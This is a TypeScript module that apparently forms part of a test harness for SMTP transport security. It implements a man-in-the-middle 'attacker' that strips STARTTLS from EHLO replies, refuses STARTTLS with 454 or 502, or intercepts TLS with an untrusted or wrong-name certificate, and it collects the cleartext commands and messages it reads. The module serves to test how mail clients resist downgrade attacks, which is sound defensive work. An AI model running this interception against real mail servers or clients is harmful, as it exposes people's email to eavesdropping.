import { connect, createServer, type Socket } from 'node:net'
import { connect as connectTls, TLSSocket } from 'node:tls'
import type { LeafCertificate } from './leaf-certificate.ts'
import { closeServer, type Endpoint, listen, SocketSet } from './listener.ts'
import { type ClearCommand, EnvelopeInClear, type SeenMessage } from './mx-record.ts'
import { type AfterCommand, SmtpClientReader } from './smtp-client-reader.ts'
import { type SmtpReply, SmtpServerReader } from './smtp-server-reader.ts'

/**
 * What the one in the middle does.
 *
 * - `off`: passes every byte, and still reads what goes in clear.
 * - `strip`: takes STARTTLS out of the answer to EHLO; a client that tries it all the same hears 502.
 * - `454`: leaves it there and answers STARTTLS itself with 454.
 * - `intercept-untrusted`, `intercept-wrong-name`: plays the server with a certificate of its own, for the right
 *   name by a CA nobody trusts, or by the trusted CA for another name; towards the real host it is a client.
 */
export type AttackMode = 'off' | 'strip' | '454' | 'intercept-untrusted' | 'intercept-wrong-name'

export interface AttackerOptions {
  /** Where the real host is; a function where it is found out late. */
  readonly target: Endpoint | (() => Promise<Endpoint>)
  readonly mode?: AttackMode
  /** What the intercept modes present. */
  readonly certificates?: { readonly untrusted: LeafCertificate; readonly wrongName: LeafCertificate }
}

/** What an attacker could read on one connection. */
export interface TappedSession {
  /** The mode when the connection was made; it stays until its end. */
  readonly mode: AttackMode
  readonly commands: readonly ClearCommand[]
  readonly messages: readonly SeenMessage[]
  /** `client`: the client and the real host encrypted it past the attacker. `attacker`: the attacker's own TLS. */
  readonly encryptedFor: 'nobody' | 'client' | 'attacker'
}

/** One who sits on the wire between clients and a real MX host. */
export interface Attacker {
  readonly mode: AttackMode
  /** Holds for connections made afterwards. Errors: a `RangeError` for an intercept mode without certificates. */
  setMode(mode: AttackMode): void
  /** Takes a connection of a client over. */
  accept(client: Socket): void
  sessions(): readonly TappedSession[]
  /** Every message read so far: the harvest. */
  messages(): readonly SeenMessage[]
  /** What clients said in clear after STARTTLS was refused; with a strict client nothing but QUIT. */
  commandsAfterRefusal(): readonly string[]
  /** Listens by itself, as a proxy on an address of its own. */
  listen(address: string, port: number): Promise<Endpoint>
  close(): Promise<void>
}

export function createAttacker(options: AttackerOptions): Attacker {
  const sessions: Tap[] = []
  const sockets = new SocketSet()
  const server = createServer(accept)
  let mode: AttackMode = 'off'
  setMode(options.mode ?? 'off')

  function setMode(next: AttackMode): void {
    if (next.startsWith('intercept') && options.certificates === undefined) {
      throw new RangeError(`mode ${next} needs certificates`)
    }
    mode = next
  }

  function accept(client: Socket): void {
    sockets.add(client)
    const certificate =
      mode === 'intercept-wrong-name' ? options.certificates?.wrongName : options.certificates?.untrusted
    const tap = new Tap(mode, certificate)
    sessions.push(tap)
    // The client waits for a greeting, so nothing of it is lost while the real host is looked up.
    client.pause()
    resolveTarget(options.target).then(
      ({ address, port }) => {
        const upstream = connect(port, address)
        sockets.add(upstream)
        tap.join(client, upstream, true)
      },
      () => client.destroy(),
    )
  }

  return {
    get mode() {
      return mode
    },
    setMode,
    accept,
    sessions: () => sessions,
    messages: () => sessions.flatMap(session => session.messages),
    commandsAfterRefusal: () =>
      sessions.flatMap(session =>
        session.commands.filter(command => command.afterRefusal).map(command => command.line),
      ),
    listen: (address, port) => listen(server, address, port),
    async close() {
      if (server.listening) await closeServer(server, sockets)
      else sockets.destroyAll()
    },
  }
}

function resolveTarget(target: AttackerOptions['target']): Promise<Endpoint> {
  return typeof target === 'function' ? target() : Promise.resolve(target)
}

/** One connection with its two sides. */
class Tap implements TappedSession {
  readonly mode: AttackMode
  readonly commands: ClearCommand[] = []
  readonly messages: SeenMessage[] = []
  encryptedFor: TappedSession['encryptedFor'] = 'nobody'
  readonly #certificate: LeafCertificate | undefined
  readonly #envelope = new EnvelopeInClear()
  #offeredStartTls = false
  #refused = false

  constructor(mode: AttackMode, certificate: LeafCertificate | undefined) {
    this.mode = mode
    this.#certificate = certificate
  }

  /** Joins two streams and reads along; called again, without a greeting, for the TLS streams of an interception. */
  join(client: Socket, server: Socket, greeting: boolean): void {
    client.on('error', () => {}).on('close', () => server.destroy())
    server.on('error', () => {}).on('close', () => client.destroySoon())

    // Replies still to come for commands passed on; the last of them decides about a held DATA or STARTTLS.
    let pendingReplies = greeting ? 1 : 0
    let held: 'DATA' | 'STARTTLS' | undefined
    const write = (to: Socket, text: string) => {
      if (to.writable) to.write(text, 'latin1')
    }

    const fromClient = new SmtpClientReader({
      command: (line, raw) => {
        this.commands.push({ line, afterRefusal: this.#refused })
        this.#envelope.command(line)
        const verb = line.trim().toUpperCase()
        if (verb === 'STARTTLS' && this.encryptedFor === 'nobody' && this.mode !== 'off') {
          return answerStartTls()
        }
        write(server, raw)
        pendingReplies += 1
        if (verb !== 'DATA' && verb !== 'STARTTLS') return 'continue'
        held = verb
        return 'hold'
      },
      message: (content, raw) => {
        this.messages.push(this.#envelope.finish(content))
        write(server, raw)
        pendingReplies += 1
      },
      overflow: () => client.destroy(),
    })
    const fromServer = new SmtpServerReader({
      reply: reply => {
        pendingReplies -= 1
        if (/^250[- ]STARTTLS\s*$/im.test(reply.raw)) this.#offeredStartTls = true
        write(client, this.mode === 'strip' ? withoutStartTls(reply) : reply.raw)
        if (held === undefined || pendingReplies > 0) return
        const command = held
        held = undefined
        if (command === 'STARTTLS' && reply.code === 220) passOpaque()
        else fromClient.resume(command === 'DATA' && reply.code === 354 ? 'message' : 'command')
      },
      overflow: () => server.destroy(),
    })
    const onClientData = (chunk: Buffer) => fromClient.feed(chunk)
    const onServerData = (chunk: Buffer) => fromServer.feed(chunk)
    client.on('data', onClientData)
    server.on('data', onServerData)
    client.resume()

    const stopReading = () => {
      client.removeListener('data', onClientData)
      server.removeListener('data', onServerData)
      fromServer.close()
      return fromClient.close()
    }

    const passOpaque = () => {
      this.encryptedFor = 'client'
      const rest = stopReading()
      write(server, rest)
      client.pipe(server)
      server.pipe(client)
    }

    const answerStartTls = (): AfterCommand => {
      if (this.mode === 'strip' || this.mode === '454') {
        this.#refused = true
        write(client, this.mode === '454' ? '454 4.7.0 TLS not available\r\n' : '502 5.5.1 not known\r\n')
        return 'continue'
      }
      stopReading()
      this.#intercept(client, server)
      return 'hold'
    }
  }

  #intercept(client: Socket, server: Socket): void {
    const certificate = this.#certificate
    if (certificate === undefined) throw new Error('interception without a certificate')
    this.encryptedFor = 'attacker'
    client.pause()
    const meet = (secureServer: Socket) => {
      client.write('220 2.0.0 go ahead\r\n')
      const secureClient = new TLSSocket(client, {
        isServer: true,
        secureContext: certificate.secureContext,
      })
      // Nothing said before TLS counts any more (RFC 3207 §4.2).
      this.#envelope.clear()
      this.join(secureClient, secureServer, false)
    }
    if (!this.#offeredStartTls) return meet(server)

    const reader = new SmtpServerReader({
      reply: ({ code }) => {
        server.removeAllListeners('data')
        if (code !== 220) return void client.destroy()
        const secure = connectTls({ socket: server, rejectUnauthorized: false })
        secure.on('error', () => client.destroy())
        secure.once('secureConnect', () => meet(secure))
      },
      overflow: () => server.destroy(),
    })
    server.on('data', (chunk: Buffer) => reader.feed(chunk))
    server.write('STARTTLS\r\n')
  }
}

/** The reply with the STARTTLS line left out and the last line marked as such again. */
function withoutStartTls(reply: SmtpReply): string {
  if (reply.code !== 250) return reply.raw
  const lines = reply.raw.split(/(?<=\n)/).filter(line => !/^250[- ]STARTTLS\s*$/i.test(line))
  const last = lines.length - 1
  return lines.map((line, index) => `250${index === last ? ' ' : '-'}${line.slice(4)}`).join('')
}
